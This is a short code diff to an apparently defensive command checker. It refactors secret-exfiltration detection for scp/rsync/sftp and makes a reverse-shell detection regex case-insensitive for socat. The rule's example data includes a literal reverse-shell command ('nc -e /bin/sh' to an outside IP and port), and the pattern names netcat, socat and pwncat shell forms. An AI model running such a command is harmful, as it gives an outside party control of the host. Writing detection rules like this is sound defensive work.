@@ -73,7 +73,7 @@ def sends_secret(call: "Call", scope: "Scope") -> bool:
                 if not re.match(r"\w+://", arg) and arg != option(call.args, "-o", "--output", "-O", "-K", "--config")
             ]
         if call.name in {"scp", "rsync", "sftp"}:
-            words = [word for word in operands(local)]
+            words = list(operands(local))
             if not words or ":" not in words[-1]:
                 return False
             local = words[:-1]
@@ -160,7 +160,7 @@ RULES: Final = (
         "Gives somebody elsewhere a shell here.",
         "nc -e /bin/sh 203.0.113.9 4444",
         "nc -z localhost 80",
-        pattern=r"^(nc\S*|ncat|netcat|busybox nc) (.* )?(-\w*[ec] ?|--(sh-)?exec[ =])\S*|^socat .*(exec|system|shell):|^(rcat|pwncat) .*(sh\b|powershell|cmd)|\b(nc|ncat|netcat) .*(/bin/\w*sh|cmd\.exe|powershell)",
+        pattern=r"^(nc\S*|ncat|netcat|busybox nc) (.* )?(-\w*[ec] ?|--(sh-)?exec[ =])\S*|^socat .*(?i:exec|system|shell):|^(rcat|pwncat) .*(sh\b|powershell|cmd)|\b(nc|ncat|netcat) .*(/bin/\w*sh|cmd\.exe|powershell)",
     ),
     Rule(
         "command.listens",
